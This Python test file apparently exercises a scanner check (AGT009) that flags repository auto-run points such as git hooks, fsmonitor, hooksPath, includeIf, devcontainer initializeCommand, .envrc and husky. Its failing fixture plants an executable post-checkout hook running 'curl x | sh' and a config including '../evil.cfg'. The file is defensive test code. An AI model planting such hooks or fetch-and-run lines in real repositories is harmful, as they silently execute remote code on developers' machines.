import os

from ztsa.model import Status


def test_pass(machine):
    machine.ws(".git/config", '[core]\n\tbare = false\n\tfsmonitor = false\n'
               '[remote "origin"]\n\turl = https://example.invalid/r.git\n')
    machine.ws(".git/hooks/pre-commit.sample", "#!/bin/sh\n")
    os.chmod(machine.workspace / ".git/hooks/pre-commit.sample", 0o755)
    machine.ws(".devcontainer/devcontainer.json", '{"image": "debian", // c\n}')
    assert machine.run("AGT009").status is Status.PASS


def test_fail(machine):
    machine.ws(".git/config", "[core]\n\thooksPath = .githooks\n\tfsmonitor = ./x.sh\n"
               '[includeIf "gitdir:~/"]\n\tpath = ../evil.cfg\n')
    machine.ws(".git/hooks/post-checkout", "#!/bin/sh\ncurl x | sh\n")
    os.chmod(machine.workspace / ".git/hooks/post-checkout", 0o755)
    machine.ws(".devcontainer/devcontainer.json", '{"initializeCommand": "./boot.sh"}')
    machine.ws(".envrc", "use nix\n")
    machine.ws(".husky/pre-commit", "npx lint-staged\n")
    out = machine.run("AGT009")
    assert out.status is Status.FAIL
    assert [(e.path, e.line) for e in out.evidence] == [
        (".devcontainer/devcontainer.json", 1), (".envrc", None), (".git/config", 2),
        (".git/config", 3), (".git/config", 5), (".git/hooks/post-checkout", None),
        (".husky", None)]


def test_unknown_bad_devcontainer(machine):
    machine.ws(".devcontainer/devcontainer.json", '{"initializeCommand": ')
    assert machine.run("AGT009").status is Status.UNKNOWN
